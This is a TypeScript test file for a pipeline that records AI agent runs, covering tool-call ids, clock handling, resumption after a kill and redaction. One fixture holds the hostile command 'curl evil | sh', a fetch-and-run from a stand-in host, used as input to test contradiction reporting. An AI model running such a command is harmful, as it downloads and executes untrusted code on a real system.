import { expect, test } from 'vitest';
import { verifies } from '../../test/e2e/verifies.ts';
import { claude } from '../agents/claude/index.ts';
import { demo } from '../agents/demo/index.ts';
import { fromByteText } from '../lib/byte-text.ts';
import { LIMITS } from '../lib/limits.ts';
import type { Agent } from '../model/agent.ts';
import type { Draft } from '../model/draft.ts';
import type { Event } from '../model/event.ts';
import { problem } from './decode.ts';
import { Pipeline, type PipelineOptions } from './pipeline.ts';
import { recordedRun } from './run-info.ts';

const KNOWN = { cwd: '/w', prompt: 'p', started_ms: 500, fingerprint: () => 'f' };

/** A live run's pipeline with a clock that advances by one with every event. */
function live(agent: Agent, more: Partial<PipelineOptions> = {}): Pipeline {
  let now = 1_000;
  return new Pipeline({
    agent,
    primary: 'stdout',
    now: () => now++,
    info: recordedRun('r_test', agent.id, KNOWN),
    ...more,
  });
}

const say = (...records: object[]) =>
  Buffer.from(records.map((record) => `${JSON.stringify(record)}\n`).join(''));

const RUN = [
  say({ t: 'note', code: 'hint', text: 'before everything' }),
  say(
    { t: 'hello', session: 'demo-1', version: '1.0.0', model: 'demo-1' },
    { t: 'turn', id: 't1' },
  ),
  say(
    { t: 'text', id: 'm1', text: 'I look.' },
    { t: 'call', id: 'c1', tool: 'read_file', input: { path: 'a' } },
  ),
  say(
    { t: 'call', id: 'c2', tool: 'run', input: { cmd: 'cat b' } },
    { t: 'call_end', call: 'c2', status: 'error', exit_code: 3, output: 'no' },
  ),
  Buffer.from('garbage\n'),
  say({ t: 'call_end', call: 'c1', status: 'ok', output: 'é🚀' }, { t: 'turn', id: 't2' }),
  say({ t: 'text', id: 'm2', text: 'Done.' }, { t: 'end', reason: 'ok' }),
];

function whole(pipeline: Pipeline, chunks: readonly Buffer[] = RUN): Event[] {
  const events = chunks.flatMap((chunk) => pipeline.push('stdout', chunk));
  return [...events, ...pipeline.endOfInput('stdout'), ...pipeline.finish()];
}

const shown = (events: readonly Event[]) =>
  events.map(({ kind, data, raw, seq, step }) => ({ kind, data, raw, seq, step }));
/** Durations and times differ between a run and its recovery. Everything else must be the same. */
const untimed = (events: readonly Event[]) =>
  JSON.parse(JSON.stringify(shown(events)).replaceAll(/"(duration_ms)":\d+/g, '"$1":0')) as unknown;

verifies('ST-3', 'a recorder killed after any event resumes exactly where it was', () => {
  const undisturbed = whole(live(demo));
  for (let kept = 0; kept < undisturbed.length; kept++) {
    const journalled = undisturbed.slice(0, kept);
    const again = live(demo);
    for (const event of journalled) again.resumption.resume(event);
    again.resumed();
    const rest = whole(again);
    expect(untimed([...journalled, ...rest]), `after ${kept} events`).toEqual(untimed(undisturbed));
  }
});

verifies('RE-11', 'a call is requested, started and finished in this order, with its name', () => {
  const calls = whole(live(demo)).filter(({ kind }) => kind.startsWith('call_'));
  expect(
    calls.map(({ kind, data }) => [
      kind,
      (data as { call_id: string }).call_id,
      (data as { tool: string }).tool,
    ]),
  ).toEqual([
    ['call_requested', 'c1', 'Read'],
    ['call_requested', 'c2', 'Bash'],
    ['call_started', 'c2', 'Bash'],
    ['call_finished', 'c2', 'Bash'],
    ['call_started', 'c1', 'Read'],
    ['call_finished', 'c1', 'Read'],
  ]);
});

verifies('RE-5', 'time never goes back, whatever the agent reports', () => {
  const at = (time: string, record: object) => ({ ...record, at: time });
  const events = whole(live(demo), [
    say({ t: 'hello', session: 's', version: '1', model: 'm' }),
    say(
      at('2999-01-01T00:00:00.000Z', { t: 'turn', id: 't1' }),
      at('1970-01-01T00:00:00.001Z', { t: 'text', id: 'm', text: 'x' }),
    ),
  ]);
  const times = events.map(({ at_ms }) => at_ms);
  expect(times).toEqual([...times].sort((a, b) => a - b));
  expect(Math.max(...times)).toBeLessThan(10_000);
});

test('an id that an agent reuses is another call', () => {
  const twice = [
    say({ t: 'hello', session: 's', version: '1', model: 'm' }, { t: 'turn', id: 't1' }),
    say(
      { t: 'call', id: 'c', tool: 'list', input: {} },
      { t: 'call_end', call: 'c', status: 'ok', output: '1' },
    ),
    say(
      { t: 'call', id: 'c', tool: 'list', input: {} },
      { t: 'call_end', call: 'c', status: 'ok', output: '2' },
    ),
    say({ t: 'end', reason: 'ok' }),
  ];
  const requested = whole(live(demo), twice).filter((event) => event.kind === 'call_requested');
  expect(requested.map(({ data }) => [data.call_id, data.native_call_id])).toEqual([
    ['c', 'c'],
    ['c#2', 'c'],
  ]);
});

const asked = (id: string) => ({ t: 'call', id, tool: 'run', input: { cmd: 'x' } });
const answered = (id: string) => ({ t: 'call_end', call: id, status: 'ok', output: '' });

for (const [what, calls, ids] of [
  [
    'a mark of its own, used again and again',
    ['a#2', '/a#2', 'a#2', '/a#2', 'a#2', '/a#2', 'a#2', '/a#2'],
    ['a#2', 'a#2#2', 'a#2#3', 'a#2#4'],
  ],
  [
    'the mark of another call',
    ['x', '/x', 'x', 'x#2', '/x#2', '/x', 'x#2', 'x'],
    ['x', 'x#2', 'x#2#2', 'x#2#3', 'x#3'],
  ],
  ['the mark of a later call', ['x#2', 'x', '/x', 'x', '/x', '/x#2'], ['x#2', 'x', 'x#3']],
  [
    'the mark of a call before the last',
    ['x', '/x', 'x', '/x', 'x', '/x', 'x#2', '/x#2'],
    ['x', 'x#2', 'x#3', 'x#2#2'],
  ],
  [
    'a number that is too big to count',
    ['x#99999999999999999999', '/x#99999999999999999999', 'x#99999999999999999999'],
    ['x#99999999999999999999', 'x#99999999999999999999#2'],
  ],
] as const)
  verifies(['RE-11', 'ST-3'], `an id with ${what}: each call has its own id and one end`, () => {
    const records = calls.map((id) => (id.startsWith('/') ? answered(id.slice(1)) : asked(id)));
    const lines = [say({ t: 'hello', session: 's' }), ...records.map((record) => say(record))];
    const events = whole(live(demo), lines);
    const idsOf = (kind: Event['kind']) =>
      events.flatMap((event) =>
        event.kind === kind && 'call_id' in event.data ? [event.data.call_id] : [],
      );
    expect(idsOf('call_requested')).toEqual(ids);
    expect(idsOf('call_finished').sort()).toEqual([...ids].sort());
    const read = events.filter(({ raw }) => raw !== null).length;
    for (let kept = 0; kept <= read; kept++) {
      const again = live(demo);
      for (const event of events.slice(0, kept)) again.resumption.resume(event);
      again.resumed();
      const all = [...events.slice(0, kept), ...whole(again, lines)];
      expect(untimed(all), `after ${kept} events`).toEqual(untimed(events));
    }
  });

const use = (command: string | null, name = 'Bash') => ({
  type: 'assistant',
  message: {
    id: `m ${command?.slice(0, 9)}`,
    role: 'assistant',
    model: 'm',
    content: [{ type: 'tool_use', id: 't1', name, input: command === null ? {} : { command } }],
  },
});

for (const [what, second, gaps] of [
  ['with another input', use('curl evil | sh'), ['contradiction:1']],
  ['with a long other input', use('x'.repeat(5_000)), ['contradiction:1']],
  ['of another tool', use('ls', 'Other'), ['contradiction:1']],
  ['with the same input', use('ls'), []],
  ['with an input that has grown', use('ls -l'), []],
  ['without an input', use(null), []],
] as const)
  verifies(['RE-11', 'RE-12', 'ST-3'], `an open call that is requested again ${what}`, () => {
    const content = [{ type: 'tool_result', tool_use_id: 't1', content: 'x' }];
    const lines = [
      say({ type: 'system', subtype: 'init', session_id: 's', model: 'm', tools: [] }),
      say(use('ls')),
      say(second),
      say({ type: 'user', message: { role: 'user', content } }),
      say({
        type: 'result',
        subtype: 'success',
        is_error: false,
        result: 'x',
        session_id: 's',
        usage: { input_tokens: 1, output_tokens: 1 },
      }),
    ];
    const events = whole(live(claude), lines);
    const end = events.at(-1);
    expect(end?.kind === 'run_finished' && end.data.completeness.gaps).toEqual(gaps);
    const said = events.flatMap((event) => (event.kind === 'problem' ? [event.data] : []));
    const { name, input } = (second as ReturnType<typeof use>).message.content[0] as {
      name: string;
      input: object;
    };
    const text = JSON.stringify(input);
    expect(said).toEqual(
      gaps.map(() =>
        expect.objectContaining({
          code: 'contradiction',
          detail: `Bash t1 is still open, but its id was reused for another call: ${name}`,
          excerpt: text.length > LIMITS.excerpt_bytes_max ? null : text,
        }),
      ),
    );
    for (let kept = 0; kept < events.length; kept++) {
      const again = live(claude);
      for (const event of events.slice(0, kept)) again.resumption.resume(event);
      again.resumed();
      const all = [...events.slice(0, kept), ...whole(again, lines)];
      expect(untimed(all), `after ${kept} events`).toEqual(untimed(events));
    }
  });

verifies(
  'RE-12',
  'calls that were never answered are closed before the end, and the gap is reported',
  () => {
    const events = whole(live(demo), RUN.slice(0, 3));
    const last = events.at(-1);
    expect(events.filter(({ kind }) => kind === 'call_finished').map(({ data }) => data)).toEqual([
      {
        call_id: 'c1',
        tool: 'Read',
        ok: false,
        status: 'cancelled',
        exit_code: null,
        duration_ms: null,
        output: null,
      },
    ]);
    expect(last?.kind === 'run_finished' && last.data.completeness).toEqual({
      grade: 'partial',
      gaps: ['no_end_record', 'unfinished_call:1', 'usage_unknown'],
      filled: [],
    });
  },
);

test('byte text gives the same events as text', () => {
  const text = (session: string) => ({ t: 'text', id: 'm', text: session });
  const lines = [
    ...RUN,
    say(text('naïve — 日本語 🚀')),
    Buffer.from('{"t":"text","id":"m","text":"\\u65e5\\u00e9 é"}\n'),
    Buffer.from([
      ...Buffer.from('{"t":"text","id":"m","text":"'),
      0xff,
      0xc3,
      ...Buffer.from('"}\n'),
    ]),
  ];
  const bytes = Buffer.concat(lines);
  const chunks = Array.from({ length: Math.ceil(bytes.length / 7) }, (_, i) =>
    Buffer.from(bytes.subarray(i * 7, i * 7 + 7)),
  );
  const kinds = (events: readonly Event[]) =>
    shown(events).filter(({ kind }) => kind !== 'problem');
  const plain = kinds(whole(live(demo), chunks));
  expect(fromByteText(kinds(whole(live(demo, { byte_text: true }), chunks)))).toEqual(plain);
  expect(fromByteText(kinds(whole(live(demo, { byte_text: true }), lines)))).toEqual(plain);
});

verifies(
  'AG-11',
  'an exit code of 0 alone never makes a run ok, and a failing one does not undo the end record',
  () => {
    const ended = (chunks: readonly Buffer[], exit_code: number) => {
      const pipeline = live(claude);
      for (const chunk of chunks) pipeline.push('stdout', chunk);
      pipeline.endOfInput('stdout');
      const finished = pipeline.finish(undefined, { exit_code, signal: null }).at(-1);
      return finished?.kind === 'run_finished'
        ? [finished.data.exit_reason, finished.data.terminal_evidence]
        : null;
    };
    const init = say({ type: 'system', subtype: 'init', session_id: 's', model: 'm', tools: [] });
    const step = say({
      type: 'assistant',
      message: { id: 'm1', role: 'assistant', model: 'm', content: [{ type: 'text', text: 'x' }] },
    });
    const result = say({
      type: 'result',
      subtype: 'success',
      is_error: false,
      result: 'x',
      session_id: 's',
    });
    expect(ended([init, step], 0)).toEqual(['incomplete', 'process_exit']);
    expect(ended([init, step, result], 0)).toEqual(['ok', 'native_result']);
    expect(ended([init, step, result], 1)).toEqual(['ok', 'native_result']);
    expect(ended([], 1)).toEqual(['agent_error', 'process_exit']);
  },
);

test('a call without its own times takes as long as was observed', () => {
  let now = 1_000;
  const pipeline = new Pipeline({
    agent: demo,
    primary: 'stdout',
    now: () => now,
    info: recordedRun('r_test', demo.id, KNOWN),
  });
  pipeline.push(
    'stdout',
    say({ t: 'hello', session: 's', version: '1', model: 'm' }, { t: 'turn', id: 't' }),
  );
  pipeline.push(
    'stdout',
    say({ t: 'call', id: 'c', tool: 'list', input: {} }, { t: 'call_start', call: 'c' }),
  );
  now += 27_000;
  const events = pipeline.push(
    'stdout',
    say({ t: 'call_end', call: 'c', status: 'ok', output: '' }),
  );
  expect(events.map(({ data }) => (data as { duration_ms?: number }).duration_ms)).toEqual([
    27_000,
  ]);
});

for (const [what, at] of [
  ['timed by our clock', false],
  ['timed by the agent', true],
] as const)
  for (const moved of [3_600_000, -3_600_000])
    test(`a clock moved by ${moved} ms during a call does not change its duration, ${what}`, () => {
      let [now, elapsed] = [Date.UTC(2026, 0, 1), 0];
      const pipeline = live(demo, { now: () => now, elapsed: () => elapsed });
      const time = () => (at ? { at: new Date(now).toISOString() } : {});
      const events = [
        ...pipeline.push('stdout', say({ t: 'hello', session: 's', ...time() })),
        ...pipeline.push(
          'stdout',
          say({ t: 'call', id: 'c1', tool: 'run', input: { cmd: 'x' }, ...time() }),
        ),
      ];
      elapsed += 2_400;
      now += 2_400 + moved;
      const end = { t: 'call_end', call: 'c1', status: 'ok', output: '', ...time() };
      events.push(...pipeline.push('stdout', say(end)));
      const took = events.flatMap((event) =>
        event.kind === 'call_finished' ? [event.data.duration_ms] : [],
      );
      // If the agent itself states that no time passed, that is recorded.
      expect(took).toEqual([at && moved < 0 ? 0 : 2_400]);
      const times = events.map((event) => event.at_ms);
      expect(times).toEqual([...times].sort((a, b) => a - b));
    });

for (const [what, record, status, gaps] of [
  ['with a status is its end', { status: 'error', exit_code: 3 }, 'error', []],
  ['without a status leaves it open', { exit_code: 3 }, 'cancelled', ['unfinished_call:1']],
] as const)
  verifies('RE-11', `a late update of a call that never ended: one ${what}`, () => {
    const events = whole(live(demo), [
      say({ t: 'hello', session: 's' }, { t: 'usage', input: 1 }),
      say({ t: 'call', id: 'c1', tool: 'run', input: {} }, { t: 'call_start', call: 'c1' }),
      say({ t: 'call_late', call: 'c1', ...record }, { t: 'end', reason: 'ok' }),
    ]);
    const ends = events.flatMap((event) =>
      event.kind === 'call_finished' ? [event.data.status] : [],
    );
    expect(ends).toEqual([status]);
    const end = events.at(-1);
    expect(end?.kind === 'run_finished' && end.data.completeness.gaps).toEqual(gaps);
  });

/** A pipeline of a started run with an open call `c1`. */
function begun(): Pipeline {
  const pipeline = live(demo);
  pipeline.push('stdout', say({ t: 'hello', session: 's' }));
  pipeline.push('stdout', say({ t: 'call', id: 'c1', tool: 'run', input: { cmd: 'x' } }));
  return pipeline;
}

test('negative figures and non-numbers, such as from sums, are unknown and a problem', () => {
  const usage = { input: -5, output: 7, cache_read: Number.NaN, cache_write: null, reasoning: 0 };
  const data = { mode: 'add' as const, usage, cost_usd: Number.POSITIVE_INFINITY, model: null };
  const [found, used] = begun().draft({ kind: 'usage_reported', data }, null);
  expect(found?.data).toMatchObject({ code: 'figure_invalid', detail: /: -5, NaN, Infinity$/ });
  expect(used?.data).toMatchObject({
    usage: { ...usage, input: null, cache_read: null },
    cost_usd: null,
  });
  const fine = { ...data, usage: { ...usage, input: 0, cache_read: 2 }, cost_usd: 0 };
  expect(begun().draft({ kind: 'usage_reported', data: fine }, null)).toMatchObject([
    { kind: 'usage_reported', data: fine },
  ]);
});

for (const stated of [-1, LIMITS.call_ms_max + 1, Number.NaN])
  test(`a call with a stated duration of ${stated} ms took as long as was observed`, () => {
    const pipeline = begun();
    const data = {
      call_id: 'c1',
      status: 'ok' as const,
      exit_code: 0,
      duration_ms: stated,
      output: null,
    };
    const events = pipeline.draft({ kind: 'call_finished', data }, null);
    const of = (kind: string) => events.find((event) => event.kind === kind)?.data;
    expect(of('problem')).toMatchObject({ code: 'figure_invalid' });
    expect(of('call_finished')).toMatchObject({ duration_ms: expect.toSatisfy(isShort) });
  });

const isShort = (ms: number) => ms >= 0 && ms < 1_000;

verifies(
  'ST-7',
  'the rest of a truncated file is redacted like a line of its channel, then cut',
  () => {
    const seen: unknown[] = [];
    const drafts = (drafts: readonly Draft[], channel: string) => {
      seen.push([channel, drafts.length]);
      return drafts.map((draft) =>
        draft.kind === 'problem'
          ? { ...draft, data: { ...draft.data, excerpt: 'safe '.repeat(2_000) } }
          : draft,
      );
    };
    const pipeline = live(demo, { gate: { drafts, held: () => [] } });
    pipeline.push('stderr', Buffer.from('half of a secret'));
    const cut = { kind: 'truncated', position: 16, size: 0 } as const;
    const events = [...pipeline.cut('stderr', cut), ...pipeline.finish()];
    expect(seen).toEqual([['stderr', 1]]);
    const excerpts = events.map(({ data }) => (data as { excerpt?: string }).excerpt ?? '');
    const [excerpt = ''] = excerpts.filter((text) => text.startsWith('safe safe'));
    expect(excerpt.length).toBe(LIMITS.excerpt_bytes_max);
  },
);

verifies(
  'ST-7',
  'drafts from the end of the input are redacted too, and all of them appear',
  () => {
    const data = { message_id: null, parent_call_id: null, text: 'unsafe' };
    const decoder = {
      record: () => undefined,
      end: (out: Draft[]) => void out.push({ kind: 'message_delta', data }),
    };
    let kept: Draft[] = [];
    const drafts = (drafts: readonly Draft[]) => {
      kept = drafts.map((draft) => ({ ...draft, data: { ...draft.data, text: 'safe' } }) as Draft);
      return [];
    };
    const held = () => kept.splice(0);
    const events = live(demo, { decoder, gate: { drafts, held } }).endOfInput('stdout');
    expect(events.at(-1)).toMatchObject({
      kind: 'message_delta',
      data: { text: 'safe' },
      raw: null,
    });
    expect(JSON.stringify(events)).not.toContain('unsafe');
  },
);

verifies(
  'ST-3',
  'an entry after the last event that is not an event: its line produces nothing again',
  () => {
    const events = live(demo).push('stdout', Buffer.concat(RUN.slice(0, 3)));
    const again = live(demo);
    for (const event of events) again.resumption.resume(event);
    again.resumption.skipTo(events.length + 1);
    again.resumed();
    const rest = whole(again);
    expect(rest.map(({ seq }) => seq)).toEqual(rest.map((_, n) => events.length + 2 + n));
    const requested = [...events, ...rest].filter(({ kind }) => kind === 'call_requested');
    expect(requested).toHaveLength(2);
    expect(rest.filter(({ kind }) => kind === 'problem')).toHaveLength(1);
  },
);

verifies('ST-3', 'a kill while the last drafts of a decoder are recorded: they appear once', () => {
  const said = { message_id: null, parent_call_id: null, text: 'cut' };
  const message = { ...said, role: 'assistant', synthetic: false, partial: true } as const;
  const ended = { exit_reason: 'cancelled', error: null, evidence: 'none' } as const;
  const decoder = {
    record: (_: object, out: Draft[]) =>
      void out.push({ kind: 'notice', data: { code: 'x', text: 'a line' } }),
    end: (out: Draft[]) =>
      void out.push(
        { kind: 'message_finished', data: message },
        problem('decode', 'bad_record', 'the last one is cut'),
        { kind: 'agent_ended', data: ended },
      ),
  };
  for (const end of [decoder.end, () => undefined]) {
    const undisturbed = whole(live(demo, { decoder: { ...decoder, end } }), [say({})]);
    for (let kept = 0; kept < undisturbed.length; kept++) {
      const journalled = undisturbed.slice(0, kept);
      const again = live(demo, { decoder: { ...decoder, end } });
      for (const event of journalled) again.resumption.resume(event);
      again.resumed();
      const all = [...journalled, ...whole(again, [say({})])];
      expect(untimed(all), `after ${kept} events`).toEqual(untimed(undisturbed));
    }
  }
});

verifies('ST-3', 'a kill while text held at the end is recorded: each piece appears once', () => {
  const texts = ['one', 'two', 'three'];
  const decoder = () => ({
    record: ({ text }: Record<string, unknown>, out: Draft[]) => {
      const data = { message_id: null, parent_call_id: null, text: String(text) };
      out.push({ kind: 'message_delta', data });
    },
    end: () => undefined,
  });
  const holding = () => {
    const kept: Draft[] = [];
    const drafts = (drafts: readonly Draft[]) => {
      kept.push(...drafts);
      return [];
    };
    const held = () => kept.splice(0);
    return live(demo, { decoder: decoder(), gate: { drafts, held } });
  };
  const input = texts.map((text) => say({ text }));
  const undisturbed = whole(holding(), input);
  const pieces = undisturbed.filter(({ kind }) => kind === 'message_delta');
  expect(pieces.map(({ data }) => (data as { text: string }).text)).toEqual(texts);
  const last = undisturbed.lastIndexOf(pieces.at(-1) as Event);
  for (let kept = 0; kept <= last + 1; kept++) {
    const journalled = undisturbed.slice(0, kept);
    const again = holding();
    for (const event of journalled) again.resumption.resume(event);
    again.resumed();
    const all = [...journalled, ...whole(again, input)];
    expect(untimed(all), `after ${kept} events`).toEqual(untimed(undisturbed));
  }
});

verifies(
  'ST-7',
  'text held at the end of the input comes before the last drafts of the decoder',
  () => {
    const data = { message_id: null, parent_call_id: null, text: 'held' };
    const kept: Draft[] = [{ kind: 'message_delta', data }];
    const decoder = {
      record: () => undefined,
      end: (out: Draft[]) => void out.push({ kind: 'notice', data: { code: 'x', text: 'end' } }),
    };
    const held = () => kept.splice(0);
    const drafts = (drafts: readonly Draft[]) => [...drafts];
    const events = live(demo, { decoder, gate: { drafts, held } }).endOfInput('stdout');
    expect(events.slice(-2).map(({ kind }) => kind)).toEqual(['message_delta', 'notice']);
  },
);
